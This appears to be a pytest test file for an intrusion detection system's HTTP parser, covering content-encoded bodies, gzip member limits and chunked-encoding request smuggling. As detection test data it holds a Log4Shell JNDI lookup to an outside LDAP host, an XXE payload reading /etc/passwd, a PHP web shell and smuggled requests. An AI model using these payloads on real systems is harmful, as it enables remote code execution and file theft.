"""HTTP/1 as other servers read it: one request that means two things is inspected both ways."""

from __future__ import annotations

import gzip
import struct
import zlib

import pytest

from ids.counters import Counters
from ids.protocols.http.content import FREE_MEMBERS, decode_content
from ids.protocols.http.settings import HttpSettings
from tests.protocols.wire import Wire, request

LOOKUP = b"${jndi:ldap://192.0.2.66/a}"
JSON = b'{"name": "' + LOOKUP + b'"}'
ENTITY = b'a=<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


def post(body: bytes, *headers: bytes, version: bytes = b"HTTP/1.1") -> bytes:
    return request(b"POST /p " + version, b"Host: x", *headers, body=body)


def with_length(body: bytes, *headers: bytes, version: bytes = b"HTTP/1.1") -> bytes:
    return post(body, *headers, b"Content-Length: %d" % len(body), version=version)


def instances(wire: Wire, name: str) -> list[bytes]:
    """Return what rules see of a buffer, over all that was reported."""
    return [one for found in wire.all for one in found.instances(name)]


def sent(data: bytes, step: int = 0) -> Wire:
    return Wire().client(data, step=step).close()


# Bodies that are called coded, and are not.


@pytest.mark.parametrize("coding", [b"deflate", b"gzip", b"x-gzip", b"gzip, deflate", b"deflate, gzip, deflate"])
@pytest.mark.parametrize("body", [JSON, b"\n<?php system($_GET['c']); ?>", b"K" + JSON])
def test_the_body_of_a_request_is_also_read_as_it_was_sent(coding: bytes, body: bytes) -> None:
    wire = sent(with_length(body, b"Content-Encoding: " + coding))
    assert body in instances(wire, "http.request_body")
    assert body in instances(wire, "file.data")


def test_a_coded_body_of_a_request_is_read_decoded_first() -> None:
    coded = gzip.compress(JSON)
    (found,) = sent(with_length(coded, b"Content-Encoding: gzip")).seen[:1]
    assert found.instances("http.request_body") == (JSON, coded)


# Codings that cost more than they weigh.


def member(content: bytes) -> bytes:
    machine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + machine.compress(content) + machine.flush() + struct.pack("<II", 0, 0)


def test_members_within_a_coding_cost_no_more_than_was_sent() -> None:
    counters = Counters()
    many = member(b"a") * 4000
    body = gzip.compress(gzip.compress(many))
    (found,) = decode_content(body, b"gzip, gzip, gzip", 100 << 10, HttpSettings(), counters)
    allowed = FREE_MEMBERS + len(body) // 18
    assert found.startswith(b"a" * (allowed - 2) + b"\x1f\x8b"), "what is left is there as it was"
    assert counters["http.gzip_too_many_members"] == 1


def test_members_that_were_sent_are_all_read() -> None:
    counters = Counters()
    body = member(b"") * 4000 + member(LOOKUP)
    assert decode_content(body, b"gzip", 100 << 10, HttpSettings(), counters) == (LOOKUP,)
    assert not counters["http.gzip_too_many_members"]


# Chunks, to a server that knows none.

CHUNKED = b"Transfer-Encoding: chunked"
LIKE_CHUNKS = ENTITY + b"\nxxxxxxxxxx\r\n0\r\n\r\n"


@pytest.mark.parametrize("version", [b"HTTP/1.0", b"HTTP/1.1"])
@pytest.mark.parametrize("step", [0, 1, 7])
def test_a_body_with_a_length_and_chunks_is_read_both_ways(version: bytes, step: int) -> None:
    wire = sent(with_length(LIKE_CHUNKS, CHUNKED, version=version) + request(b"GET /next HTTP/1.1"), step)
    assert LIKE_CHUNKS in instances(wire, "http.request_body")
    assert b"xxxxxxxxxx" in instances(wire, "http.request_body")
    assert b"/next" in instances(wire, "http.uri"), "where the chunks end, the next request begins"


@pytest.mark.parametrize("line", [ENTITY, b"a;" + b"e" * 900 + LOOKUP, b"a;" + b"e" * 9000 + LOOKUP])
@pytest.mark.parametrize("step", [0, 1])
def test_what_stands_behind_a_chunk_size_is_inspected(line: bytes, step: int) -> None:
    wire = sent(post(line + b"\r\nxxxxxxxxxx\r\n0\r\n\r\n", CHUNKED) + request(b"GET /next HTTP/1.1"), step)
    assert any(line in found for found in instances(wire, "http.request_body"))
    assert b"/next" in instances(wire, "http.uri")


def test_a_plain_chunk_extension_is_no_body() -> None:
    wire = sent(post(b'3;name="value"; a=b\r\nabc\r\n0\r\n\r\n', CHUNKED))
    assert set(instances(wire, "http.request_body")) == {b"abc"}


def test_chunk_extensions_are_kept_no_longer_than_a_body() -> None:
    wire = Wire(request_body_bytes=4096).client(post(b"", CHUNKED))
    for _ in range(200):
        wire.client(b"1;" + b"{" * 1000 + b"\r\nx\r\n")
    wire.client(b"0\r\n\r\n").close()
    assert max(map(len, instances(wire, "http.request_body"))) < 4096 + 200
